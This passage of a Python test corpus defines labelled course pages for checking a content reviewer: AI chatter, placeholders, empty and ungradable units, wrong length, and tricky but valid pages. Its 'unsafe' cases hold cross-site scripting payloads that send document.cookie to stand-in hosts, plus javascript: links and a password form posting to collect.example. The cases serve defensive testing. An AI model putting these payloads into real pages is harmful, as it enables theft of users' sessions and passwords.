@@ -1,0 +1,1593 @@
+"""The review corpus: labelled courses, each one base course plus a defect or a tricky-but-fine page.
+
+`expect` names the defect categories the review must block for (empty, ungradable, unsafe,
+chatter, placeholder, length); an empty `expect` means the course must pass (warnings are
+fine). Cases marked `held_back` were written in a separate pass and the rules were not tuned
+on them; accuracy on them is reported separately (bench/review_accuracy.py). Held-back A was
+run once, then two rule bugs it showed were fixed (the figures before the fix are in the
+commit message); held-back B was written after that and run once, untouched.
+"""
+
+from __future__ import annotations
+
+from corpus.review_bases import BASES, mcq
+from corpus.review_model import Case, Page, Unit, html, raw
+
+__all__ = ["CASES", "Case", "Page"]
+
+
+def defect(name: str, base: str, expect: str, *units: Unit, held: bool = False, **kw) -> Case:
+    return Case(name, BASES[base], tuple(units), frozenset(expect.split()), held_back=held, **kw)
+
+
+def fine(name: str, base: str, *units: Unit, held: bool = False, kind: str = "tricky", **kw) -> Case:
+    return Case(name, BASES[base], tuple(units), frozenset(), held_back=held, kind=kind, **kw)
+
+
+def p(text: str) -> str:
+    return f"<p>{text}</p>"
+
+
+MCQ_OK = mcq("Which is correct?", ["This one", "Not this one"], 0)
+
+# ---------------------------------------------------------------------------------------------
+# Tuned part: the rules were developed against these.
+# ---------------------------------------------------------------------------------------------
+TUNED: list[Case] = [
+    # clean courses, as their authors wrote them
+    *(fine(f"clean_{key}", key, kind="clean") for key in BASES),
+    # chatter, English
+    defect(
+        "chatter_curly_heres",
+        "excel_hr",
+        "chatter",
+        html(
+            "Sorting",
+            p("Here’s the lesson on sorting and filtering your invoice log.")
+            + p("Select the header row, then choose Sort."),
+        ),
+    ),
+    defect(
+        "chatter_straight_heres",
+        "python_bootcamp",
+        "chatter",
+        html(
+            "Loops",
+            p("Here's the lesson you asked for on for-loops:")
+            + p("A for-loop repeats a block once per item."),
+        ),
+    ),
+    defect(
+        "chatter_great_question",
+        "history_school",
+        "chatter",
+        html(
+            "Child labour",
+            p(
+                "Great question! Children worked in mills because their small hands could reach under the machines."
+            ),
+        ),
+    ),
+    defect(
+        "chatter_knowledge_update",
+        "ai_literacy",
+        "chatter",
+        html(
+            "Which tools",
+            p(
+                "As of my last knowledge update, the most widely used assistants were offered by three companies."
+            ),
+        ),
+    ),
+    defect(
+        "chatter_as_an_ai",
+        "leadership",
+        "chatter",
+        html(
+            "Difficult talks",
+            p(
+                "As an AI language model, I don't have personal experience of difficult conversations, but here are some tips."
+            ),
+        ),
+    ),
+    defect(
+        "chatter_hope_helps",
+        "safety_onboarding",
+        "chatter",
+        html(
+            "PPE",
+            p("Wear gloves, boots and a hi-vis vest on the floor at all times.")
+            + p("I hope this helps! Let me know if you'd like me to add a quiz."),
+        ),
+    ),
+    defect(
+        "chatter_certainly",
+        "ux_writing",
+        "chatter",
+        html(
+            "Empty states",
+            p("Certainly! Here is a revised lesson on empty states.")
+            + p("An empty state tells people what will appear and how to start."),
+        ),
+    ),
+    defect(
+        "chatter_would_you_like",
+        "excel_hr",
+        "chatter",
+        html(
+            "Charts",
+            p("Select the months and the totals, then insert a clustered bar chart.")
+            + p("Would you like me to create a practice exercise for this chart?"),
+        ),
+    ),
+    defect(
+        "chatter_title",
+        "python_bootcamp",
+        "chatter",
+        html(
+            "Sure! Here is the unit on dictionaries",
+            p("A dictionary maps keys to values: <code>ages = {'Ana': 31}</code>."),
+        ),
+    ),
+    defect(
+        "chatter_in_problem",
+        "history_school",
+        "chatter",
+        Unit(
+            "Quiz: cities",
+            (
+                Page(
+                    mcq("Great question! Why did Manchester grow so fast?", ["Cotton mills", "Gold mines"], 0)
+                ),
+            ),
+        ),
+    ),
+    defect(
+        "chatter_markdown_fence",
+        "python_bootcamp",
+        "chatter",
+        html("Functions", p("```html") + p("A function is defined with def and a name.")),
+    ),
+    # chatter, other languages
+    defect(
+        "chatter_es_claro",
+        "es_excel",
+        "chatter",
+        html(
+            "Filtros",
+            p("¡Claro! Aquí tienes la lección sobre filtros en Excel.")
+            + p("Selecciona la fila de encabezados y pulsa Filtro."),
+        ),
+    ),
+    defect(
+        "chatter_es_como_ia",
+        "es_historia",
+        "chatter",
+        html(
+            "Las reformas",
+            p(
+                "Como modelo de lenguaje, no tengo opiniones políticas, pero puedo resumir las reformas del primer bienio."
+            ),
+        ),
+    ),
+    defect(
+        "chatter_fr_bien_sur",
+        "fr_securite",
+        "chatter",
+        html(
+            "Les mises à jour",
+            p("Bien sûr ! Voici la leçon sur les mises à jour.")
+            + p("Installez les mises à jour dès qu'elles sont proposées."),
+        ),
+    ),
+    defect(
+        "chatter_fr_tant_que",
+        "fr_fle",
+        "chatter",
+        html("Au marché", p("En tant qu'IA, je ne fais pas de courses, mais voici un dialogue au marché.")),
+    ),
+    defect(
+        "chatter_de_ki",
+        "de_kunden",
+        "chatter",
+        html(
+            "Beschwerden",
+            p("Als KI-Sprachmodell… kann ich keine echten Telefonate führen. Hier sind trotzdem Tipps."),
+        ),
+    ),
+    defect(
+        "chatter_de_gerne",
+        "de_physik",
+        "chatter",
+        html(
+            "Spannung",
+            p("Gerne! Hier ist die Lektion zur Spannung.") + p("Die Spannung wird in Volt gemessen."),
+        ),
+    ),
+    defect(
+        "chatter_pt_claro",
+        "pt_vendas",
+        "chatter",
+        html(
+            "Objeções",
+            p("Claro! Aqui está a aula sobre objeções.") + p("Ouça a objeção até o fim antes de responder."),
+        ),
+    ),
+    defect(
+        "chatter_pt_otima",
+        "pt_matematica",
+        "chatter",
+        html("Comparar frações", p("Ótima pergunta! Para comparar frações, use o mesmo denominador.")),
+    ),
+    # placeholders
+    defect(
+        "placeholder_todo",
+        "python_bootcamp",
+        "placeholder",
+        html(
+            "Dictionaries",
+            p("TODO: write the introduction to dictionaries.") + p("A dictionary maps keys to values."),
+        ),
+    ),
+    defect(
+        "placeholder_mustache",
+        "leadership",
+        "placeholder",
+        html("Welcome", p("Welcome, {{learner_name}}! This programme helps you lead your first team.")),
+    ),
+    defect(
+        "placeholder_company",
+        "safety_onboarding",
+        "placeholder",
+        html("Reporting", p("At [Company Name], every near miss is reported within 24 hours.")),
+    ),
+    defect(
+        "placeholder_tbd",
+        "history_school",
+        "placeholder",
+        html("Field trip", p("Our visit to the mill museum is on TBD. Bring a packed lunch.")),
+    ),
+    defect(
+        "placeholder_coming_soon",
+        "excel_hr",
+        "placeholder",
+        html("Conditional formatting", p("Content coming soon.")),
+    ),
+    defect(
+        "placeholder_lorem",
+        "leadership",
+        "placeholder",
+        html(
+            "Meetings", p("Lorem ipsum dolor sit amet, consectetur adipiscing elit. Sed do eiusmod tempor.")
+        ),
+    ),
+    defect(
+        "placeholder_insert_here",
+        "ux_writing",
+        "placeholder",
+        html(
+            "Tone", p("A tone guide keeps the product sounding like one voice.") + p("Insert example here.")
+        ),
+    ),
+    defect(
+        "placeholder_title",
+        "excel_hr",
+        "placeholder",
+        html("[Insert title]", p("Use Ctrl+Shift+L to switch the filters on and off.")),
+    ),
+    defect(
+        "placeholder_es", "es_excel", "placeholder", html("Gráficos", p("Contenido disponible próximamente."))
+    ),
+    defect(
+        "placeholder_fr",
+        "fr_fle",
+        "placeholder",
+        html("Au téléphone", p("Contenu à venir.") + p("(à compléter)")),
+    ),
+    defect("placeholder_de", "de_kunden", "placeholder", html("Abschluss", p("Inhalt folgt in Kürze."))),
+    defect("placeholder_pt", "pt_vendas", "placeholder", html("Fechamento", p("Conteúdo em breve."))),
+    defect(
+        "placeholder_bracket_name",
+        "pt_matematica",
+        "placeholder",
+        html("Boas-vindas", p("Olá, [nome do aluno]! Nesta sequência vamos trabalhar com frações.")),
+    ),
+    # empty
+    defect("empty_unit_no_components", "excel_hr", "empty", Unit("Freeze panes")),
+    defect(
+        "empty_img_no_alt",
+        "ux_writing",
+        "empty",
+        html("Mock-up review", '<p><img src="/static/mockup.png" alt=""></p>'),
+    ),
+    defect("empty_nbsp", "history_school", "empty", html("Railways", "<p>&nbsp;</p><p> </p>")),
+    defect(
+        "empty_video_no_url",
+        "safety_onboarding",
+        "empty",
+        Unit("Forklift zones", (Page(video="", title="Forklift zones"),)),
+    ),
+    defect(
+        "empty_only_comment", "de_physik", "empty", html("Widerstand", "<!-- Text kommt noch --><div></div>")
+    ),
+    # ungradable (as a platform generated them)
+    defect(
+        "ungradable_no_correct",
+        "excel_hr",
+        "ungradable",
+        raw(
+            "Quiz: formulas",
+            '<problem><multiplechoiceresponse><p>Which formula adds?</p><choicegroup type="MultipleChoice"><choice correct="false">=SUM()</choice><choice correct="false">=IF()</choice></choicegroup></multiplechoiceresponse></problem>',
+        ),
+    ),
+    defect(
+        "ungradable_no_response",
+        "history_school",
+        "ungradable",
+        raw("Quiz: reform", "<problem><p>Name one factory act.</p></problem>"),
+    ),
+    defect(
+        "ungradable_customresponse_no_check",
+        "python_bootcamp",
+        "ungradable",
+        raw(
+            "Check: functions",
+            '<problem><customresponse><p>Write a function that doubles a number.</p><textbox rows="6"/></customresponse></problem>',
+        ),
+    ),
+    defect(
+        "ungradable_numerical_variable",
+        "pt_matematica",
+        "ungradable",
+        raw(
+            "Problema: soma",
+            '<problem><numericalresponse answer="$soma"><p>Quanto é 1/4 + 1/2?</p><formulaequationinput/></numericalresponse></problem>',
+        ),
+    ),
+    # unsafe (as a platform generated them)
+    defect(
+        "unsafe_script",
+        "excel_hr",
+        "unsafe",
+        raw(
+            "Shortcuts",
+            p("Press Ctrl+C to copy.")
+            + "<script>document.location='https://evil.example/'+document.cookie</script>",
+        ),
+    ),
+    defect(
+        "unsafe_onerror",
+        "ux_writing",
+        "unsafe",
+        raw("Icons", '<p>Icons need labels.</p><img src="x.png" alt="icon" onerror="alert(1)">'),
+    ),
+    defect(
+        "unsafe_js_link",
+        "leadership",
+        "unsafe",
+        raw("Resources", '<p>Download the <a href="javascript:stealSession()">agenda template</a>.</p>'),
+    ),
+    defect(
+        "unsafe_iframe",
+        "ai_literacy",
+        "unsafe",
+        raw("Demo", '<p>Watch the demo.</p><iframe src="https://tracker.example.net/embed/123"></iframe>'),
+    ),
+    # length
+    defect("length_five_times_evenings", "leadership", "length", size=85),
+    defect("length_five_times_lunch", "safety_onboarding", "length", size=17),
+    defect("length_far_too_short", "python_bootcamp", "length", size=3),
+    defect("length_es_tardes", "es_excel", "length", size=80),
+    defect("length_fr_pause", "fr_securite", "length", size=18),
+    # tricky but fine
+    fine(
+        "fine_aid_to_memory",
+        "history_school",
+        html("Remembering dates", p("Use a rhyme as an aid to memory: 1769, Watt's engine was fine.")),
+    ),
+    fine(
+        "fine_ai_model_in_code",
+        "ai_literacy",
+        html(
+            "Boilerplate replies",
+            p("Assistants often open with a disclaimer. Recognise it:")
+            + "<pre>As an AI language model, I cannot give legal advice.</pre>"
+            + p("When you see it, rephrase your question."),
+        ),
+    ),
+    fine(
+        "fine_lorem_cicero",
+        "ux_writing",
+        html(
+            "Where lorem ipsum comes from",
+            p(
+                "Lorem ipsum is scrambled Latin from Cicero's De finibus. Designers use it as placeholder text in mock-ups so that the copy does not distract from the layout."
+            ),
+        ),
+    ),
+    fine(
+        "fine_feel_free_mentor",
+        "excel_hr",
+        html(
+            "Getting help",
+            p("Stuck on a formula? Feel free to ask your mentor, or post in the team channel."),
+        ),
+    ),
+    fine(
+        "fine_quoted_reply_blockquote",
+        "ai_literacy",
+        html(
+            "Reading a reply",
+            p("Here is a real reply we received from an assistant:")
+            + "<blockquote>Great question! As of my last knowledge update, the policy allowed 25 days of leave.</blockquote>"
+            + p("Notice it cannot know the current policy."),
+        ),
+    ),
+    fine(
+        "fine_spanish_todo",
+        "es_excel",
+        html(
+            "Formato", p("Todo el equipo usa el mismo formato de fecha. Aplica el formato a todo el rango.")
+        ),
+    ),
+    fine(
+        "fine_jinja_code",
+        "python_bootcamp",
+        html(
+            "Templates",
+            p("Jinja fills in values between double braces:")
+            + "<pre><code>Hello {{ name }}, you have {{ count }} new messages.</code></pre>",
+        ),
+    ),
+    fine(
+        "fine_img_with_alt_only",
+        "history_school",
+        html(
+            "The mill in 1835",
+            '<p><img src="/static/mill.png" alt="Engraving of a cotton mill with three chimneys, 1835"></p>',
+        ),
+    ),
+    fine(
+        "fine_youtube_only",
+        "safety_onboarding",
+        html(
+            "Watch: safe lifting",
+            '<iframe src="https://www.youtube.com/embed/abc123" width="560" height="315"></iframe>',
+        ),
+    ),
+    fine(
+        "fine_todo_in_starter_code",
+        "python_bootcamp",
+        html(
+            "Starter code",
+            p("Complete the function in the starter file:")
+            + "<pre><code>def total(rows):\n    # TODO: add up the amount column\n    pass</code></pre>",
+        ),
+    ),
+    fine(
+        "fine_fr_phrases_a_completer",
+        "fr_fle",
+        html("Exercice : le passé composé", p("Phrases à compléter : « Hier, je ___ (aller) au marché. »")),
+    ),
+    fine(
+        "fine_to_be_determined_by",
+        "leadership",
+        html(
+            "Priorities",
+            p("The order of work is to be determined by the team in the stand-up, not by you alone."),
+        ),
+    ),
+    fine(
+        "fine_good_question_habit",
+        "leadership",
+        html(
+            "Asking questions",
+            p("A good question to open a one-to-one is: what is taking most of your energy this week?"),
+        ),
+    ),
+    fine(
+        "fine_pt_em_breve",
+        "pt_vendas",
+        html("Simulação", p("Em breve, você vai conduzir uma reunião de descoberta completa com um colega.")),
+    ),
+    fine(
+        "fine_de_folgt",
+        "de_physik",
+        html(
+            "Reihenschaltung",
+            p("Die Stromstärke folgt einer einfachen Regel: in der Reihenschaltung ist sie überall gleich."),
+        ),
+    ),
+    fine("fine_three_lessons_length", "history_school", kind="tricky", size=12),
+    fine(
+        "fine_unreadable_time",
+        "excel_hr",
+        audience_override="New finance hires, new to spreadsheets. They study whenever the month-end close allows.",
+        expect_warnings=frozenset({"length_unchecked"}),
+    ),
+    fine(
+        "fine_template_quoted_brackets",
+        "leadership",
+        html(
+            "Writing the invite",
+            p("Use this invitation and adapt it:")
+            + "<blockquote>Hi [Name], let's meet on [Date] to talk about your goals.</blockquote>",
+        ),
+    ),
+    fine(
+        "fine_tbd_quoted",
+        "excel_hr",
+        html("Open items", p('In the tracker, mark a missing due date as "TBD" and chase it the same week.')),
+    ),
+    fine(
+        "fine_es_proximamente",
+        "es_historia",
+        html(
+            "El bienio reformista",
+            p("Próximamente veremos cómo reaccionaron los propietarios a la reforma agraria."),
+        ),
+    ),
+]
+
+# ---------------------------------------------------------------------------------------------
+# Held-back part: written separately; never used to tune the rules.
+# ---------------------------------------------------------------------------------------------
+HELD_BACK: list[Case] = [
+    # chatter
+    defect(
+        "hb_chatter_sure_heres",
+        "excel_hr",
+        "chatter",
+        html(
+            "VLOOKUP",
+            p("Sure, here's a lesson on VLOOKUP:")
+            + p("VLOOKUP finds a value in the first column of a table."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_happy_to_help",
+        "leadership",
+        "chatter",
+        html(
+            "Delegation",
+            p(
+                "I'd be happy to help you understand delegation. Delegating means handing over the outcome, not only the task."
+            ),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_large_lm",
+        "ai_literacy",
+        "chatter",
+        html("Limits", p("As a large language model, I cannot guarantee that every fact below is current.")),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_drafted",
+        "history_school",
+        "chatter",
+        html(
+            "The Factory Acts",
+            p("I've drafted the lesson below, keeping the reading level for Year 9.")
+            + p("The 1833 Factory Act banned children under nine from textile mills."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_hope_helps_end",
+        "python_bootcamp",
+        "chatter",
+        html(
+            "Sorting lists",
+            p("Use <code>sorted(rows, key=...)</code> to sort by a column.") + p("Hope this helps!"),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_absolutely",
+        "ux_writing",
+        "chatter",
+        html(
+            "Button labels",
+            p("Absolutely! Here's the updated unit on button labels.") + p("Use verbs: Save, Send, Delete."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_below_html",
+        "safety_onboarding",
+        "chatter",
+        html(
+            "Near misses",
+            p("Below is the HTML for the unit on near misses.")
+            + p("A near miss is an event that could have hurt someone."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_if_youd_like",
+        "excel_hr",
+        "chatter",
+        html(
+            "Printing",
+            p("Set the print area before printing the log.")
+            + p("If you'd like, I can add a quiz at the end."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_adjustments",
+        "leadership",
+        "chatter",
+        html(
+            "Stand-ups",
+            p("Keep the stand-up to fifteen minutes.")
+            + p("Let me know if you need any adjustments to this lesson."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_realtime",
+        "ai_literacy",
+        "chatter",
+        html(
+            "Current events",
+            p("I don't have access to real-time information, so check today's figures yourself."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_upper_curly",
+        "python_bootcamp",
+        "chatter",
+        html(
+            "Modules",
+            p("HERE’S THE LESSON ON IMPORTING MODULES.") + p("<code>import csv</code> loads the csv module."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_es_por_supuesto",
+        "es_excel",
+        "chatter",
+        html(
+            "Formato condicional",
+            p("¡Por supuesto! Aquí tienes el contenido de la unidad sobre formato condicional."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_es_espero",
+        "es_historia",
+        "chatter",
+        html(
+            "La crisis de 1934",
+            p("La revolución de octubre de 1934 marcó el bienio.")
+            + p("Espero que esto te sirva para preparar el examen."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_es_soy",
+        "es_excel",
+        "chatter",
+        html("Atajos", p("Soy un modelo de lenguaje y no uso Excel, pero estos son los atajos más útiles.")),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_fr_excellente",
+        "fr_securite",
+        "chatter",
+        html(
+            "Le Wi-Fi public",
+            p("Excellente question ! Sur un Wi-Fi public, utilisez toujours le VPN de l'entreprise."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_fr_jespere",
+        "fr_fle",
+        "chatter",
+        html(
+            "Ma journée", p("Racontez votre journée au passé composé.") + p("J'espère que cela vous aide !")
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_fr_votre_lecon",
+        "fr_securite",
+        "chatter",
+        html(
+            "Les sauvegardes", p("Voici votre leçon sur les sauvegardes, rédigée pour des non-spécialistes.")
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_de_ich_bin",
+        "de_kunden",
+        "chatter",
+        html(
+            "Aktives Zuhören",
+            p("Ich bin ein KI-Sprachmodell und habe keine Kunden, aber aktives Zuhören funktioniert so."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_de_natuerlich",
+        "de_physik",
+        "chatter",
+        html(
+            "Ohmsches Gesetz",
+            p("Natürlich! Hier ist deine Lerneinheit zum ohmschen Gesetz.") + p("U = R · I"),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_de_hoffe",
+        "de_kunden",
+        "chatter",
+        html(
+            "Rückruf",
+            p("Sagen Sie einen Rückruf nur zu, wenn Sie ihn einhalten können.") + p("Ich hoffe, das hilft!"),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_pt_como_ia",
+        "pt_vendas",
+        "chatter",
+        html(
+            "Descoberta",
+            p("Como uma IA, não participo de reuniões, mas posso explicar a descoberta de necessidades."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_pt_espero",
+        "pt_matematica",
+        "chatter",
+        html("Somar frações", p("Para somar, iguale os denominadores.") + p("Espero que isso ajude!")),
+        held=True,
+    ),
+    defect(
+        "hb_chatter_pt_com_certeza",
+        "pt_vendas",
+        "chatter",
+        html("Próximo passo", p("Com certeza! Segue a lição sobre como propor o próximo passo.")),
+        held=True,
+    ),
+    # placeholders
+    defect(
+        "hb_placeholder_fixme",
+        "python_bootcamp",
+        "placeholder",
+        html(
+            "CSV files",
+            p("FIXME add the airline example.")
+            + p("<code>csv.DictReader</code> reads each row as a dictionary."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_logo",
+        "safety_onboarding",
+        "placeholder",
+        html("Welcome", p("[Insert company logo]") + p("Welcome to the warehouse team.")),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_jinja_dotted",
+        "leadership",
+        "placeholder",
+        html("Programme dates", p("The programme starts on {{ course.start_date }} with a kick-off call.")),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_dollar",
+        "excel_hr",
+        "placeholder",
+        html(
+            "Your buddy",
+            p("Your spreadsheet buddy is ${buddy_name}; book thirty minutes with them this week."),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_to_be_confirmed",
+        "history_school",
+        "placeholder",
+        html("Assessment", p("Assessment details to be confirmed.")),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_under_construction",
+        "ux_writing",
+        "placeholder",
+        html("Voice and tone", p("This section is under construction.")),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_tba_speaker",
+        "leadership",
+        "placeholder",
+        html("Guest session", p("Guest speaker: TBA. The session covers leading former peers.")),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_screenshot",
+        "excel_hr",
+        "placeholder",
+        html(
+            "Data validation",
+            p("Choose Data, then Validation.") + p("[Add screenshot of the validation dialog]"),
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_es_lorem",
+        "es_historia",
+        "placeholder",
+        html("La Constitución de 1931", p("Lorem ipsum dolor sit amet, consectetur adipiscing elit.")),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_es_empresa",
+        "es_excel",
+        "placeholder",
+        html("Bienvenida", p("Bienvenido al curso de Excel de [Nombre de la empresa].")),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_es_pendiente",
+        "es_historia",
+        "placeholder",
+        html("El Frente Popular", p("Pendiente de redactar.")),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_fr_texte",
+        "fr_fle",
+        "placeholder",
+        html("Prendre rendez-vous", p("Texte à venir.")),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_de_firma",
+        "de_kunden",
+        "placeholder",
+        html("Willkommen", p("Willkommen bei [Firmenname]! In dieser Schulung geht es um Telefonate.")),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_de_ergaenzt",
+        "de_physik",
+        "placeholder",
+        html("Sicherheitsregeln", p("Dieser Abschnitt wird noch ergänzt.")),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_pt_construcao",
+        "pt_matematica",
+        "placeholder",
+        html("Subtrair frações", p("Seção em construção.")),
+        held=True,
+    ),
+    defect(
+        "hb_placeholder_pt_todo_upper",
+        "pt_vendas",
+        "placeholder",
+        html("Roteiro", p("TODO: roteiro da simulação.")),
+        held=True,
+    ),
+    # empty
+    defect("hb_empty_br_only", "excel_hr", "empty", html("Named ranges", "<div><br/></div>"), held=True),
+    defect(
+        "hb_empty_spacer",
+        "history_school",
+        "empty",
+        html("Canals", "<p><img src='/static/spacer.gif' alt=''></p><p>&#160;</p>"),
+        held=True,
+    ),
+    defect("hb_empty_ellipsis", "fr_securite", "empty", html("Le RGPD", "<p>…</p>"), held=True),
+    defect(
+        "hb_empty_heading_only", "pt_matematica", "empty", html("Equivalência", "<h3></h3><p></p>"), held=True
+    ),
+    defect(
+        "hb_empty_component_beside",
+        "python_bootcamp",
+        "empty",
+        Unit(
+            "While loops",
+            (
+                Page(p("A while loop repeats while its condition is true.")),
+                Page(video="", title="While loops video"),
+            ),
+        ),
+        held=True,
+    ),
+    defect("hb_empty_no_components", "es_historia", "empty", Unit("Las elecciones de 1933"), held=True),
+    # ungradable, as platforms generated them
+    defect(
+        "hb_ungradable_choicetext",
+        "excel_hr",
+        "ungradable",
+        raw(
+            "Check: totals",
+            '<problem><choicetextresponse><radiotextgroup><choice correct="false">The total is <decoy_input/></choice><choice correct="false">None of these</choice></radiotextgroup></choicetextresponse></problem>',
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_ungradable_image_no_region",
+        "history_school",
+        "ungradable",
+        raw(
+            "Find the chimney",
+            '<problem><imageresponse><p>Click the engine house.</p><imageinput src="/static/mill.png" width="600" height="400"/></imageresponse></problem>',
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_ungradable_code_no_grader",
+        "python_bootcamp",
+        "ungradable",
+        raw(
+            "Submit: totals",
+            '<problem><coderesponse queuename="python"><p>Submit your total() function.</p><textbox rows="10" mode="python"/></coderesponse></problem>',
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_ungradable_answer_todo",
+        "ux_writing",
+        "ungradable",
+        raw(
+            "Quiz: labels",
+            '<problem><stringresponse answer="TODO"><p>Which verb fits a button that sends a form?</p><textline/></stringresponse></problem>',
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_ungradable_blank_choice",
+        "de_physik",
+        "ungradable",
+        raw(
+            "Test: Einheiten",
+            '<problem><multiplechoiceresponse><p>In welcher Einheit misst man Spannung?</p><choicegroup type="MultipleChoice"><choice correct="true"></choice><choice correct="false">Ampere</choice></choicegroup></multiplechoiceresponse></problem>',
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_ungradable_malformed",
+        "es_excel",
+        "ungradable",
+        raw(
+            "Prueba: fórmulas",
+            '<problem><multiplechoiceresponse><p>¿Qué fórmula suma?<choicegroup><choice correct="true">=SUMA()</choice></multiplechoiceresponse></problem>',
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_ungradable_checkbox_none",
+        "safety_onboarding",
+        "ungradable",
+        raw(
+            "Quiz: PPE",
+            '<problem><choiceresponse><p>Which items are PPE?</p><checkboxgroup><choice correct="false">Gloves</choice><choice correct="false">Boots</choice></checkboxgroup></choiceresponse></problem>',
+        ),
+        held=True,
+    ),
+    # unsafe, as platforms generated them
+    defect(
+        "hb_unsafe_mixed_case_js",
+        "excel_hr",
+        "unsafe",
+        raw("Templates", '<p>Get the <a href="JaVaScRiPt:alert(document.domain)">template</a>.</p>'),
+        held=True,
+    ),
+    defect(
+        "hb_unsafe_svg_onload",
+        "ux_writing",
+        "unsafe",
+        raw(
+            "Icons",
+            '<p>Our icon set:</p><svg onload="fetch(\'https://x.example/\'+document.cookie)"><circle r="4"/></svg>',
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_unsafe_form",
+        "fr_securite",
+        "unsafe",
+        raw(
+            "Signaler",
+            '<p>Signalez ici :</p><form action="https://collect.example/"><input name="password"></form>',
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_unsafe_http_iframe",
+        "safety_onboarding",
+        "unsafe",
+        raw(
+            "Video", '<iframe src="http://www.youtube.com/embed/abc"></iframe><p>Watch before your shift.</p>'
+        ),
+        held=True,
+    ),
+    defect(
+        "hb_unsafe_object",
+        "de_kunden",
+        "unsafe",
+        raw("Audio", '<p>Hören Sie das Gespräch:</p><object data="https://cdn.example/player.swf"></object>'),
+        held=True,
+    ),
+    # length
+    defect(
+        "hb_length_one_evening",
+        "leadership",
+        "length",
+        held=True,
+        audience_override="Newly promoted leads. One evening a week for ten weeks.",
+        size=100,
+    ),
+    defect(
+        "hb_length_minutes_a_day",
+        "ai_literacy",
+        "length",
+        held=True,
+        audience_override="Office staff, no technical background. 20 minutes a day for two weeks.",
+        size=17,
+    ),
+    defect(
+        "hb_length_workshop",
+        "ux_writing",
+        "length",
+        held=True,
+        audience_override="Product designers. This is a 90-minute workshop at the design summit.",
+        size=10,
+    ),
+    defect(
+        "hb_length_es_hora",
+        "es_excel",
+        "length",
+        held=True,
+        audience_override="Administrativos sin experiencia. Una hora a la semana durante dos meses.",
+        size=45,
+    ),
+    defect(
+        "hb_length_fr_short",
+        "fr_fle",
+        "length",
+        held=True,
+        audience_override="Adultes de niveau A1. Deux heures par semaine pendant trois mois.",
+        size=5,
+    ),
+    defect(
+        "hb_length_de_mittagspause",
+        "de_kunden",
+        "length",
+        held=True,
+        audience_override="Neue Mitarbeitende. Eine Mittagspause pro Woche, acht Wochen lang.",
+        size=30,
+    ),
+    defect(
+        "hb_length_pt_por_dia",
+        "pt_vendas",
+        "length",
+        held=True,
+        audience_override="Vendedores iniciantes. Uma hora por dia durante duas semanas.",
+        size=50,
+    ),
+    defect(
+        "hb_length_total_hours",
+        "python_bootcamp",
+        "length",
+        held=True,
+        audience_override="Career changers, no programming. 12 hours in total.",
+        size=60,
+    ),
+    # tricky but fine
+    fine(
+        "hb_fine_aide_memoire",
+        "history_school",
+        html(
+            "Mnemonics",
+            p("A timeline on your wall works as an aide-memoire; so does using a rhyme as an aid to memory."),
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_q_element",
+        "ai_literacy",
+        html(
+            "Refusals",
+            p(
+                "Sometimes the assistant answers <q>As an AI, I cannot help with that.</q> Reword the request with context."
+            ),
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_pt_todo",
+        "pt_matematica",
+        html("Revisão", p("Revise todo o material da semana antes da avaliação.")),
+        held=True,
+    ),
+    fine(
+        "hb_fine_es_lorem_topic",
+        "es_excel",
+        html(
+            "Texto de relleno",
+            p(
+                "El lorem ipsum es un texto de relleno que se usa en plantillas. Sustitúyelo siempre antes de enviar un informe."
+            ),
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_de_blindtext",
+        "de_kunden",
+        html(
+            "Vorlagen",
+            p(
+                "Der Blindtext „Lorem ipsum“ zeigt nur, wo später Text stehen wird. In Kundenbriefen darf er nie stehen bleiben."
+            ),
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_great_question_of",
+        "history_school",
+        html(
+            "Why Britain?",
+            p("That is the great question of the period: why did industry take off in Britain first?"),
+        ),
+        held=True,
+    ),
+    fine(
+        "hb_fine_would_you_like_to",
+        "excel_hr",
+        html("Undo", p("Made a mistake? Would you like to undo it? Press Ctrl+Z.")),
+        held=True,
+    ),
